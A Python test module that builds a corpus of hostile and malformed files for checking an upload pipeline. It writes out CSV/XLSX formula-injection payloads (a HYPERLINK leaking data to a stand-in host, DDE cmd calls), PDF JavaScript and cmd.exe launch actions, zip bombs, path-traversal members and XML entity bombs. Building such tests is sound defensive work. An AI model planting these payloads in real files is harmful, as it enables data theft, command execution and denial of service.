"""The bad-input corpus: hostile and malformed files, each built here from scratch.

Every builder returns the same bytes on every call, so the corpus is reproducible without
committing binaries (EICAR files in a repository upset desktop virus scanners). What each
file should become is in expected.yaml beside this file, keyed by the same id;
tests/integration/test_bad_input_corpus.py pushes every file through the real pipeline.

    python -m tests.corpus.make_corpus DIRECTORY    # write every file into DIRECTORY

Nothing here imports pytest.
"""

from __future__ import annotations

import base64
import io
import struct
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable, Sequence
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests import samples

EICAR = samples.EICAR
_ZIP_DATE = (2024, 1, 1, 0, 0, 0)
_DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"

Builder = Callable[[], bytes]


# --- zips, documents and workbooks ---------------------------------------------------------


def zip_of(
    members: Sequence[tuple[str, bytes | str]],
    *,
    stored: tuple[str, ...] = (),
    level: int | None = None,
) -> bytes:
    """A zip of `members` in order, deflated unless named in `stored`, with fixed times."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compresslevel=level) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=_ZIP_DATE)
            info.compress_type = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            archive.writestr(info, data)
    return buffer.getvalue()


def _content_types(main: str, main_part: str, extra: dict[str, str] | None = None) -> str:
    overrides = f'<Override PartName="/{main_part}" ContentType="{main}"/>' + "".join(
        f'<Override PartName="/{part}" ContentType="{kind}"/>'
        for part, kind in (extra or {}).items()
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/octet-stream"/>'
        '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument'
        '.spreadsheetml.sheet"/>'
        f"{overrides}</Types>"
    )


def _rels(body: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{body}</Relationships>"
    )


def _root_rels(main_part: str) -> str:
    return _rels(
        f'<Relationship Id="rId1" Target="{main_part}" Type='
        '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
    )


def _word_document(text: str, prolog: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f"{prolog}"
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    )


def docx_with(
    extra: Sequence[tuple[str, bytes | str]] = (),
    *,
    text: str = "The strategy meeting agreed a plan with health, police and the school.",
    prolog: str = "",
    stored: tuple[str, ...] = (),
    level: int | None = None,
) -> bytes:
    """A valid minimal Word document, plus `extra` members after its own parts."""
    return zip_of(
        [
            ("[Content_Types].xml", _content_types(_DOCX_MAIN, "word/document.xml")),
            ("_rels/.rels", _root_rels("word/document.xml")),
            ("word/document.xml", _word_document(text, prolog)),
            *extra,
        ],
        stored=stored,
        level=level,
    )


def _cell(ref: str, value: str) -> str:
    escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escaped}</t></is></c>'


def xlsx_with(
    rows: Sequence[Sequence[str]],
    *,
    prolog: str = "",
    raw_cells: dict[int, str] | None = None,
    extra: Sequence[tuple[str, bytes | str]] = (),
    main: str = _XLSX_MAIN,
) -> bytes:
    """A valid one-sheet workbook of inline-string `rows` (row 1 is the header).

    `raw_cells` appends ready-made cell XML to a row (by its 1-based number); `prolog` goes
    between the XML declaration and <worksheet>.
    """
    sheet_rows = []
    for number, row in enumerate(rows, start=1):
        cells = "".join(_cell(f"{chr(65 + i)}{number}", value) for i, value in enumerate(row))
        cells += (raw_cells or {}).get(number, "")
        sheet_rows.append(f'<row r="{number}">{cells}</row>')
    sheet = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f"{prolog}"
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{''.join(sheet_rows)}</sheetData></worksheet>"
    )
    workbook = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="List" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    workbook_rels = _rels(
        '<Relationship Id="rId1" Target="worksheets/sheet1.xml" Type='
        '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>'
    )
    return zip_of(
        [
            (
                "[Content_Types].xml",
                _content_types(main, "xl/workbook.xml", {"xl/worksheets/sheet1.xml": _SHEET}),
            ),
            ("_rels/.rels", _root_rels("xl/workbook.xml")),
            ("xl/workbook.xml", workbook),
            ("xl/_rels/workbook.xml.rels", workbook_rels),
            ("xl/worksheets/sheet1.xml", sheet),
            *extra,
        ]
    )


def _pdf(lines: Sequence[str]) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    body = "".join(f"({line}) Tj T*\n" for line in lines)
    content = f"BT /F1 10 Tf 12 TL 50 780 Td\n{body}ET\n".encode("latin-1")
    pdf.pages.append(
        pikepdf.Page(
            Dictionary(
                Type=Name.Page,
                MediaBox=Array([0, 0, 595, 842]),
                Resources=Dictionary(Font=Dictionary(F1=font)),
                Contents=pdf.make_stream(content),
            )
        )
    )
    return pdf


def _save(pdf: pikepdf.Pdf, *, compress: bool = True) -> bytes:
    buffer = io.BytesIO()
    pdf.save(
        buffer,
        compress_streams=compress,
        object_stream_mode=pikepdf.ObjectStreamMode.disable,
        deterministic_id=True,
    )
    return buffer.getvalue()


def note_pdf(label: str) -> bytes:
    """A clean one-page PDF that says `label` (so every such file has its own bytes)."""
    return _save(_pdf([f"Case note: {label}.", "Nothing hostile in here."]))


# --- malware wrappers ----------------------------------------------------------------------


def eicar_plain() -> bytes:
    return EICAR


def eicar_zip() -> bytes:
    return zip_of([("eicar.com", EICAR)])


def eicar_nested_zip() -> bytes:
    return zip_of([("inner.zip", eicar_zip())])


def eicar_in_docx_member() -> bytes:
    return docx_with([("word/media/image1.bin", EICAR)])


def eicar_in_pdf_stream() -> bytes:
    pdf = _pdf(["A page whose second content stream carries the test string."])
    page = pdf.pages[0]
    page.obj.Contents = Array([page.obj.Contents, pdf.make_stream(b"% " + EICAR + b"\n")])
    return _save(pdf, compress=False)


def eicar_pdf_attachment() -> bytes:
    return samples.eicar_pdf()


def eicar_pdf_attachment_acrobat() -> bytes:
    return samples.eicar_pdf_attachment()


def eicar_in_xlsx_cell() -> bytes:
    return xlsx_with([["Child ID", "Notes"], ["C1001", EICAR.decode()]])


def eicar_in_csv_cell() -> bytes:
    return b"Child ID,Notes\r\nC1001," + EICAR + b"\r\n"


def eicar_base64_in_email() -> bytes:
    encoded = base64.encodebytes(EICAR).decode()
    return (
        "From: social.worker@example.invalid\r\n"
        "To: inspection@example.invalid\r\n"
        "Subject: Case notes\r\n"
        "Date: Mon, 1 Jan 2024 09:00:00 +0000\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
        "--b1\r\nContent-Type: text/plain\r\n\r\nPlease see the attached notes.\r\n"
        '--b1\r\nContent-Type: application/octet-stream; name="notes.com"\r\n'
        "Content-Transfer-Encoding: base64\r\n"
        'Content-Disposition: attachment; filename="notes.com"\r\n\r\n'
        f"{encoded}\r\n--b1--\r\n"
    ).encode()


def eicar_in_odt() -> bytes:
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3">'
        f"<office:body><office:text><text:p>{EICAR.decode()}</text:p></office:text>"
        "</office:body></office:document-content>"
    )
    return _odt(content)


def _odt(content: str) -> bytes:
    mimetype = "application/vnd.oasis.opendocument.text"
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        f'manifest:version="1.3"><manifest:file-entry manifest:full-path="/" '
        f'manifest:media-type="{mimetype}"/><manifest:file-entry '
        'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    return zip_of(
        [("mimetype", mimetype), ("content.xml", content), ("META-INF/manifest.xml", manifest)],
        stored=("mimetype",),
    )


# --- type confusion ------------------------------------------------------------------------


def html_page() -> bytes:
    return samples.html()


def svg_with_script() -> bytes:
    return samples.svg()


def docm_content() -> bytes:
    return samples.docm()


def xlsm_content() -> bytes:
    return xlsx_with(
        [["Child ID"], ["C1001"]],
        main=_XLSM_MAIN,
        extra=[("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))],
    )


def pdf_then_zip_polyglot() -> bytes:
    """A PDF with a zip appended after %%EOF: PDF readers and zip readers both open it."""
    return note_pdf("polyglot, PDF first") + zip_of([("payload.txt", "hidden behind the PDF")])


def zip_then_pdf_polyglot() -> bytes:
    """A .docx whose first member is a stored PDF, so %PDF- sits in the first kilobyte."""
    pdf = note_pdf("polyglot, zip first")
    return zip_of(
        [
            ("a.pdf", pdf),
            ("[Content_Types].xml", _content_types(_DOCX_MAIN, "word/document.xml")),
            ("_rels/.rels", _root_rels("word/document.xml")),
            ("word/document.xml", _word_document("Also a PDF.")),
        ],
        stored=("a.pdf",),
    )


# --- PDF active content --------------------------------------------------------------------


def pdf_javascript_open_action() -> bytes:
    pdf = _pdf(["Opening this runs a script."])
    pdf.Root.OpenAction = pdf.make_indirect(
        Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert('hello');"))
    )
    return _save(pdf)


def pdf_launch_action() -> bytes:
    pdf = _pdf(["The link below starts a program."])
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([50, 700, 300, 720]),
                    A=Dictionary(S=Name.Launch, F=String("cmd.exe"), NewWindow=True),
                )
            )
        ]
    )
    return _save(pdf)


def pdf_embedded_file() -> bytes:
    pdf = _pdf(["This PDF carries an attachment."])
    pdf.attachments["notes.txt"] = pikepdf.AttachedFileSpec(
        pdf,
        b"Notes hidden inside the PDF.\n",
        description="",
        filename="notes.txt",
        mime_type="text/plain",
        creation_date="D:20240101000000Z",
        mod_date="D:20240101000000Z",
    )
    return _save(pdf)


def pdf_xfa_form() -> bytes:
    pdf = _pdf(["This PDF has an XFA form."])
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa, NeedsRendering=True)
    return _save(pdf)


def pdf_uri_action() -> bytes:
    pdf = _pdf(["The link below opens a web page."])
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([50, 700, 300, 720]),
                    A=Dictionary(S=Name.URI, URI=String("https://example.invalid/collect")),
                )
            )
        ]
    )
    return _save(pdf)


def pdf_all_active_content() -> bytes:
    return samples.pdf_with_active_content()


# --- malformed PDFs ------------------------------------------------------------------------


def pdf_truncated() -> bytes:
    return samples.truncated_pdf(0.5)


def pdf_without_eof() -> bytes:
    whole = note_pdf("no end marker")
    return whole[: whole.rindex(b"%%EOF")]


def pdf_broken_xref() -> bytes:
    whole = bytearray(note_pdf("broken cross-reference table"))
    xref = whole.rindex(b"\nxref")
    first_entry = whole.index(b" n", xref) - 16
    whole[first_entry : first_entry + 10] = b"9999999999"
    return bytes(whole)


def pdf_encrypted_user_password() -> bytes:
    return samples.encrypted_pdf()


def pdf_encrypted_owner_password_only() -> bytes:
    return samples.encrypted_pdf(user_password="")


def pdf_header_then_garbage() -> bytes:
    return b"%PDF-1.7\n" + samples.random_bytes(3000) + b"\n%%EOF\n"


# --- spreadsheet injection -----------------------------------------------------------------

INJECTED_CELLS = (
    '=HYPERLINK("https://example.invalid/?leak="&A2,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)


def csv_formula_injection() -> bytes:
    rows = ["Child ID,Notes"]
    for number, cell in enumerate(INJECTED_CELLS, start=1):
        quoted = '"' + cell.replace('"', '""') + '"'
        rows.append(f"C{1000 + number},{quoted}")
    return ("\r\n".join(rows) + "\r\n").encode()


def xlsx_formula_injection() -> bytes:
    rows = [["Child ID", "Notes", "Link"]]
    rows += [[f"C{2000 + n}", cell] for n, cell in enumerate(INJECTED_CELLS, start=1)]
    live = '<c r="C2" t="str"><f>HYPERLINK("https://example.invalid/","x")</f><v>=cmd|x</v></c>'
    return xlsx_with(rows, raw_cells={2: live})


# --- zip bombs and broken containers -------------------------------------------------------


def docx_high_ratio_bomb() -> bytes:
    """A .docx with a 20 MiB member of zeros that deflates to about 20 kB (ratio ~1000)."""
    return docx_with([("word/media/image1.png", bytes(20 * 1024 * 1024))], level=9)


def zip_high_ratio_bomb() -> bytes:
    """A plain zip of three 10 MiB members of zeros."""
    return zip_of([(f"part{i}.txt", bytes(10 * 1024 * 1024)) for i in range(3)], level=9)


def zip_nested_24_deep() -> bytes:
    """A zip in a zip ... 24 deep around a line of text (clamd's MaxRecursion is 16)."""
    data: bytes = b"The innermost note of a deeply nested archive.\n"
    for depth in range(1, 25):
        data = zip_of([(f"level{depth - 1}.zip" if depth > 1 else "note.txt", data)])
    return data


def xlsx_many_entries() -> bytes:
    """A workbook with 6000 tiny extra members (the limit is 5000; clamd's is 10000)."""
    return xlsx_with(
        [["Child ID"], ["C1001"]],
        extra=[(f"xl/media/pad{i:05d}.bin", b"x") for i in range(6000)],
    )


def docx_nested_zip() -> bytes:
    return docx_with([("word/media/archive.zip", zip_of([("notes.txt", "harmless text")]))])


def docx_nested_gzip() -> bytes:
    return docx_with([("word/media/data.bin", _gzip(b"harmless text " * 50))])


def _gzip(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    return compressor.compress(data) + compressor.flush()


def docx_with_chart_workbook() -> bytes:
    """A legitimate .docx whose chart data is an embedded .xlsx (must be accepted)."""
    workbook = xlsx_with([["Quarter", "Referrals"], ["Q1", "42"]])
    return docx_with(
        [("word/embeddings/Microsoft_Excel_Worksheet.xlsx", workbook)],
        text="Referrals by quarter are shown in the chart.",
    )


def docx_with_embedded_xlsm() -> bytes:
    return docx_with([("word/embeddings/Microsoft_Excel_Macro.xlsm", xlsm_content())])


def docx_overlapping_entries() -> bytes:
    """A .docx whose extra member's local header and data sit inside another member's data.

    The stored member 'word/media/a.bin' holds a complete local header and data for
    'word/media/b.bin'; the central directory lists both, so b's bytes are shared with a's.
    """
    inner_name = b"word/media/b.bin"
    inner_data = b"shared bytes " * 20
    inner = (
        struct.pack(
            "<4sHHHHHLLLHH",
            b"PK\x03\x04",
            20,
            0,
            0,
            0,
            0x21,
            zlib.crc32(inner_data),
            len(inner_data),
            len(inner_data),
            len(inner_name),
            0,
        )
        + inner_name
        + inner_data
    )
    base = docx_with([("word/media/a.bin", inner)], stored=("word/media/a.bin",))
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        outer = archive.getinfo("word/media/a.bin")
        inner_offset = outer.header_offset + 30 + len(outer.filename.encode()) + len(outer.extra)
    end = base.rindex(b"PK\x05\x06")
    count, _cd_size, cd_offset = struct.unpack_from("<HLL", base, end + 10)
    central = (
        struct.pack(
            "<4sHHHHHHLLLHHHHHLL",
            b"PK\x01\x02",
            20,
            20,
            0,
            0,
            0,
            0x21,
            zlib.crc32(inner_data),
            len(inner_data),
            len(inner_data),
            len(inner_name),
            0,
            0,
            0,
            0,
            0o644 << 16,
            inner_offset,
        )
        + inner_name
    )
    directory = base[cd_offset:end] + central
    record = bytearray(base[end:])
    struct.pack_into("<HHLL", record, 8, count + 1, count + 1, len(directory), cd_offset)
    return base[:cd_offset] + directory + bytes(record)


def docx_local_header_names_another_member() -> bytes:
    """The central directory says word/document.xml; its local header says word/documenT.xml."""
    data = bytearray(docx_with())
    name_at = data.index(b"word/document.xml")  # first in its local header (data is deflated)
    data[name_at + len("word/documen")] = ord("T")
    return bytes(data)


def docx_path_traversal_member() -> bytes:
    return docx_with([("../../../../tmp/evil.xml", "<x/>")])


def docx_duplicate_members() -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile: "Duplicate name"
        return docx_with([("word/document.xml", _word_document("A second, different body."))])


def docx_encrypted_member() -> bytes:
    """A .docx whose member carries the zip 'encrypted' flag (traditional PKWARE)."""
    data = bytearray(docx_with([("word/secret.xml", "<secret/>")]))
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = 0
        while (at := data.find(signature, at)) >= 0:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + 15] == b"word/secret.xml":
                flags = struct.unpack_from("<H", data, at + flag_at)[0]
                struct.pack_into("<H", data, at + flag_at, flags | 0x1)
            at += 4
    return bytes(data)


def xlsx_entity_bomb() -> bytes:
    """A workbook whose sheet XML declares a billion-laughs entity chain and uses it."""
    entities = '<!ENTITY a0 "lol">' + "".join(
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)
    )
    return xlsx_with(
        [["Child ID"]],
        prolog=f"<!DOCTYPE worksheet [{entities}]>\n",
        raw_cells={2: '<c r="A2" t="inlineStr"><is><t>&a9;</t></is></c>'},
    )


def docx_external_entity() -> bytes:
    return docx_with(
        prolog='<!DOCTYPE w:document SYSTEM "http://example.invalid/evil.dtd">\n',
    )


# --- hostile names (each a clean file of its own, so none is a duplicate) ------------------


def named_traversal() -> bytes:
    return note_pdf("traversal name")


def named_control_characters() -> bytes:
    return note_pdf("control characters")


def named_right_to_left_override() -> bytes:
    return note_pdf("right-to-left override")


def named_300_characters() -> bytes:
    return note_pdf("very long name")


def named_nul_byte() -> bytes:
    return note_pdf("NUL byte")


def named_windows_device() -> bytes:
    return note_pdf("Windows device name")


def named_zero_width_and_backslashes() -> bytes:
    return note_pdf("zero-width and backslashes")


BUILDERS: dict[str, Builder] = {
    "eicar.txt": eicar_plain,
    "eicar.zip": eicar_zip,
    "eicar-nested.zip": eicar_nested_zip,
    "eicar-docx-member.docx": eicar_in_docx_member,
    "eicar-pdf-stream.pdf": eicar_in_pdf_stream,
    "eicar-pdf-attachment.pdf": eicar_pdf_attachment,
    "eicar-pdf-attachment-acrobat.pdf": eicar_pdf_attachment_acrobat,
    "eicar-xlsx-cell.xlsx": eicar_in_xlsx_cell,
    "eicar-csv-cell.csv": eicar_in_csv_cell,
    "eicar-base64-email.txt": eicar_base64_in_email,
    "eicar-odt.odt": eicar_in_odt,
    "exe-named.pdf": samples.pe_executable,
    "elf-named.docx": samples.elf_executable,
    "html-named.docx": html_page,
    "svg-with-script.svg": svg_with_script,
    "svg-named.png": svg_with_script,
    "docm-named.docx": docm_content,
    "xlsm-named.xlsx": xlsm_content,
    "script-named.txt": samples.shell_script,
    "pdf-named.docx": lambda: note_pdf("a PDF named .docx"),
    "fake-docx-with-exe.docx": samples.fake_docx,
    "polyglot-pdf-zip.pdf": pdf_then_zip_polyglot,
    "polyglot-zip-pdf.docx": zip_then_pdf_polyglot,
    "pdf-javascript-openaction.pdf": pdf_javascript_open_action,
    "pdf-launch.pdf": pdf_launch_action,
    "pdf-embedded-file.pdf": pdf_embedded_file,
    "pdf-xfa.pdf": pdf_xfa_form,
    "pdf-uri-action.pdf": pdf_uri_action,
    "pdf-all-active-content.pdf": pdf_all_active_content,
    "pdf-truncated.pdf": pdf_truncated,
    "pdf-no-eof.pdf": pdf_without_eof,
    "pdf-broken-xref.pdf": pdf_broken_xref,
    "pdf-encrypted.pdf": pdf_encrypted_user_password,
    "pdf-owner-password-only.pdf": pdf_encrypted_owner_password_only,
    "pdf-header-then-garbage.pdf": pdf_header_then_garbage,
    "list-formulas.csv": csv_formula_injection,
    "list-formulas.xlsx": xlsx_formula_injection,
    "bomb-ratio.docx": docx_high_ratio_bomb,
    "bomb-ratio.zip": zip_high_ratio_bomb,
    "bomb-many-entries.xlsx": xlsx_many_entries,
    "bomb-nested-24-deep.zip": zip_nested_24_deep,
    "nested-zip.docx": docx_nested_zip,
    "nested-gzip.docx": docx_nested_gzip,
    "chart-workbook.docx": docx_with_chart_workbook,
    "embedded-xlsm.docx": docx_with_embedded_xlsm,
    "overlapping-entries.docx": docx_overlapping_entries,
    "local-header-mismatch.docx": docx_local_header_names_another_member,
    "traversal-member.docx": docx_path_traversal_member,
    "duplicate-members.docx": docx_duplicate_members,
    "encrypted-member.docx": docx_encrypted_member,
    "entity-bomb.xlsx": xlsx_entity_bomb,
    "external-entity.docx": docx_external_entity,
    "name-traversal.pdf": named_traversal,
    "name-control-characters.pdf": named_control_characters,
    "name-rtl-override.pdf": named_right_to_left_override,
    "name-300-characters.pdf": named_300_characters,
    "name-nul-byte.pdf": named_nul_byte,
    "name-windows-device.pdf": named_windows_device,
    "name-zero-width-backslashes.pdf": named_zero_width_and_backslashes,
}
"""Every corpus file by id (the id is also its name on disk)."""


def build_all() -> dict[str, bytes]:
    """Every corpus file's bytes, by id."""
    return {name: build() for name, build in BUILDERS.items()}


def write_corpus(directory: Path) -> list[Path]:
    """Write every corpus file into `directory` (created if missing); return their paths."""
    directory.mkdir(parents=True, exist_ok=True)
    written = []
    for name, data in build_all().items():
        path = directory / name
        path.write_bytes(data)
        written.append(path)
    return written


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python -m tests.corpus.make_corpus DIRECTORY")
    for path in write_corpus(Path(sys.argv[1])):
        print(path)
